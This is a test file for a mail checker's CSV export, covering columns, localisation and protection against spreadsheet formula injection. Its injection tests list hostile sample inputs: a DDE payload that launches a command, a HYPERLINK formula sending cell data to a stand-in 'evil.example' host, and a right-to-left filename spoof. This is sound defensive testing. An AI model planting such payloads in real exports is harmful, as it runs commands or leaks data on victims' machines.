import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { ALL_PAGES } from '../../../shared/findings/all-pages.ts';
import { LANGUAGES } from '../../../shared/findings/explain.ts';
import { finding } from '../../../shared/findings/finding.ts';
import { readAccountList } from '../../../shared/mail/account-list.ts';
import { readCsv } from '../../../shared/mail/csv.ts';
import {
  checkFactsOf,
  renderCsv,
  type CheckedAccount,
  type CheckFacts,
} from '../../../shared/report/render-csv.ts';
import type { Report } from '../../../shared/report/report.ts';
import { IMAP, SMTP } from './events.ts';
import { sampleReport, withEveryText } from './samples.ts';

const HEALTHY: CheckFacts = {
  startedAt: '2026-11-22T08:00:00.000Z',
  verdict: 'healthy',
  findings: [finding('servers_healthy', { domain: 'example.org' }, [])],
  servers: [IMAP, SMTP],
};

function rowsOf(
  accounts: readonly CheckedAccount[],
  language: 'en' | 'de' = 'en',
): readonly (readonly string[])[] {
  const read = readCsv(renderCsv(accounts, ALL_PAGES[language]));
  if (read.kind !== 'rows') throw new Error(`line ${read.line}`);
  return read.rows.map(({ cells }) => cells);
}

describe('a table of several checks', () => {
  it('has a row for each account, in their order, and says of each what there is', () => {
    const [names, ...rows] = rowsOf([
      { address: 'ada@example.org', check: HEALTHY },
      { address: 'Bob@Example.net', check: null },
    ]);

    expect(names).toEqual([
      'Address',
      'Domain',
      'Result',
      'Finding',
      'Who must act',
      'Codes',
      'Servers',
      'Checked (UTC)',
    ]);
    expect(rows).toEqual([
      [
        'ada@example.org',
        'example.org',
        'Everything that was checked is fine',
        'The mail servers for example.org are in order',
        'Nothing to do',
        'servers_healthy',
        'imap.example.org:993/implicit-tls smtp.example.org:465/implicit-tls',
        '2026-11-22 08:00:00',
      ],
      ['Bob@Example.net', 'example.net', 'Not checked', '', '', '', '', ''],
    ]);
  });

  it('is what spreadsheets of that language take apart: a mark for UTF-8, CRLF, and semicolons in German', () => {
    const text = renderCsv([{ address: 'ada@example.org', check: null }], ALL_PAGES.de);

    expect(text).toMatch(
      /^\ufeff"Adresse";"Domain";[^\r\n]*"Geprüft \(UTC\)"\r\n"ada@example.org";[^\r\n]*\r\n$/,
    );
  });

  it('says of a warning that it is one', () => {
    const params = { host: 'a.example', port: 143, mechanisms: 'PLAIN' };
    const findings = [finding('auth_offered_in_cleartext', params, [])];

    expect(rowsOf([{ address: 'a@b.example', check: { ...HEALTHY, findings } }])[1]?.[2]).toBe('Warning');
  });

  it.each(LANGUAGES)('can be given back as a list of accounts (%s)', (language) => {
    const text = renderCsv(
      ['ada@example.org', 'bob@example.net'].map((address) => ({ address, check: HEALTHY })),
      ALL_PAGES[language],
    );

    expect(readAccountList(text)).toMatchObject({
      kind: 'list',
      accounts: [{ address: 'ada@example.org' }, { address: 'bob@example.net' }],
    });
  });

  // OWASP, CSV Injection; the wide forms are those of East Asian keyboards.
  it.each([
    ...['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u3000=1'],
    ...['＝1', '＋1', '－1', '＠1', '﹢1', '﹣1', '﹦1', '﹫1', '−1', '⁼1', '₊1', '=cmd|" /C calc"!A0'],
  ])('has nothing that a spreadsheet takes for a formula: %j', (address) => {
    const cell = rowsOf([{ address, check: null }])[1]?.[0] ?? '';

    expect(cell).toMatch(/^['\\]/);
  });

  it.each([
    'ada@example.org',
    'a=b@example.org',
    "o'brien@example.org",
    '1+1@example.org',
    'ümit@example.org',
  ])('leaves what is no formula as it is: %s', (address) => {
    expect(rowsOf([{ address, check: null }])[1]?.[0]).toBe(address);
  });
});

describe('words of others in a table', () => {
  let report: Report;
  beforeAll(async () => {
    report = await sampleReport(['certificate-expired']);
  });

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '","=1","',
    '\u202egnp.exe',
    '\u001b[31mred\r\n=1',
    '\t=1',
  ])('stay in their cell, show what they are, and are no formula: %j', (text) => {
    const rows = rowsOf([{ address: 'ada@example.org', check: checkFactsOf(withEveryText(report, text)) }]);

    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(8);
    for (const cell of rows[1] ?? []) {
      expect(cell).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
      expect(cell.length).toBeLessThanOrEqual(501);
    }
  });

  it('of any kind leave the table what it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom(...LANGUAGES), (text, language) => {
        const params = { host: text, notAfter: text };
        const findings = [finding('tls_certificate_expired', params as never, [])];
        const rows = rowsOf(
          [{ address: text, check: { ...HEALTHY, verdict: 'problems', findings } }],
          language,
        );

        expect(rows.map((cells) => cells.length)).toEqual([8, 8]);
        expect(rows.flat().some((cell) => /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(cell))).toBe(false);
        expect(rows.flat().some((cell) => /^\s*[=+\-@]/.test(cell.normalize('NFKC')))).toBe(false);
      }),
    );
  });
});
